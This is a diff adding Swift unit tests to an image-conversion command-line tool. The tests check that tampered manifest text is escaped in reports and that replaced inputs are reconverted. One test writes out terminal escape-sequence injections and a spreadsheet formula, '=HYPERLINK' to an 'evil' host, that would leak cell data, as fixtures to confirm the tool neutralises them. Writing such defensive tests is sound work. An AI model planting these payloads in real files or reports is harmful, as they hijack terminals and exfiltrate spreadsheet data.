@@ -332,6 +332,72 @@ final class UpdateTests: CLITestCase {
         XCTAssertEqual(images.values.first { ($0["file"] as? String)?.hasSuffix("a.png") == true }?["width"] as? Int, 32)
     }
 
+    /// The manifest's text goes into reports, and anyone who can write in the output folder can edit it: its
+    /// control characters are shown as `\xNN` like any file's text (before: raw, an escape sequence set the
+    /// terminal's title and cleared it), and a line naming a route the tool does not have is unread and its output
+    /// converted again (before: a `=HYPERLINK` formula went into the CSV unguarded).
+    func testManifestTextIsNotTrusted() throws {
+        try makeInputs()
+        summary(try update().result, converted: 3, skipped: 0)
+        let path = work.appendingPathComponent("out/.yuvconv-manifest")
+        let lines = String(decoding: try Data(contentsOf: path), as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
+        let heading = try XCTUnwrap(lines.first { $0.hasPrefix("# ") }).dropFirst(2).split(separator: "\t").map(String.init)
+        let sampling = try XCTUnwrap(heading.firstIndex(of: "source_sampling")), route = try XCTUnwrap(heading.firstIndex(of: "path"))
+        let colour = try XCTUnwrap(heading.firstIndex(of: "color_management"))
+        let edited = lines.map { line in
+            var f = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
+            if f.first == "a.nv12" { f[sampling] = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mRED" }
+            if f.first == "b.nv12" { f[route] = "=HYPERLINK(\"http://evil/?\"&A1)" }
+            if f.first == "c.nv12" { f[colour] = "\u{1B}[31mRED" }
+            return f.joined(separator: "\t")
+        }.joined(separator: "\n")
+        try Data(edited.utf8).write(to: path)
+        for format in ["text", "csv"] {
+            let r = try run(["convert", "in/", "-o", "out/", "--update", "--report", format])
+            XCTAssertEqual(r.status, 1, r.stderr)
+            let out = String(decoding: r.stdout, as: UTF8.self) + r.stderr
+            XCTAssertFalse(out.contains("\u{1B}") || out.contains("\u{07}") || out.contains("HYPERLINK"), out.debugDescription)
+            XCTAssertTrue(out.contains("\\x1B]0;pwned\\x07\\x1B[2J\\x1B[31mRED"), out)
+            if format == "text" {
+                XCTAssertTrue(r.stderr.contains("line 4: path is not one this version knows"), r.stderr)
+                summary(r, converted: 1, skipped: 2)
+            } else {
+                summary(r, converted: 0, skipped: 3)   // b's line written again by the run before
+            }
+        }
+    }
+
+    /// An input another file was moved over — the same size and, as `cp -p`, `rsync -a` and `tar x` leave it, the
+    /// same modification time — is read, found changed and converted again (before, its size and time vouched for
+    /// it: the output stayed the old picture's); one only touched back to its time is read and kept.
+    func testInputReplacedWithItsTimeKeptIsConvertedAgain() throws {
+        try makeInputs()
+        // in/a.png as a stored PNG: another picture of the same size is a file of the same length.
+        let a = work.appendingPathComponent("in/a.png"), copy = work.appendingPathComponent("copy.png")
+        func picture(_ rgb: [UInt8], at url: URL) throws {
+            try writePNG(url.path, width: 16, height: 16, pixels: Array((0..<256).map { _ in rgb }.joined()))
+            try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSince1970: 1_700_000_000)],
+                                                  ofItemAtPath: url.path)
+        }
+        try picture([255, 0, 0], at: a)
+        summary(try update().result, converted: 3, skipped: 0)
+        let red = try contents("out/a.nv12")
+        // The same bytes under a new inode, its time put back: read, found the same, kept.
+        try picture([255, 0, 0], at: copy)
+        XCTAssertEqual(rename(copy.path, a.path), 0)
+        summary(try update().result, converted: 0, skipped: 3)
+        // Another picture of the same size and time moved over it: converted again.
+        try picture([0, 0, 255], at: copy)
+        XCTAssertEqual(try Data(contentsOf: copy).count, try Data(contentsOf: a).count)
+        XCTAssertEqual(rename(copy.path, a.path), 0)
+        let changed = try update()
+        summary(changed.result, converted: 1, skipped: 2)
+        XCTAssertEqual(changed.images["in/a.png"]?["up_to_date"] as? Bool, false)
+        XCTAssertNotEqual(try contents("out/a.nv12"), red)
+        // And with it recorded, a run over nothing changed reads nothing again and keeps all.
+        summary(try update().result, converted: 0, skipped: 3)
+    }
+
     /// A run over some of the inputs keeps the others' entries; the manifest's own name is no output's.
     func testManifestKeepsOutputsNotInThisRun() throws {
         try makeInputs()
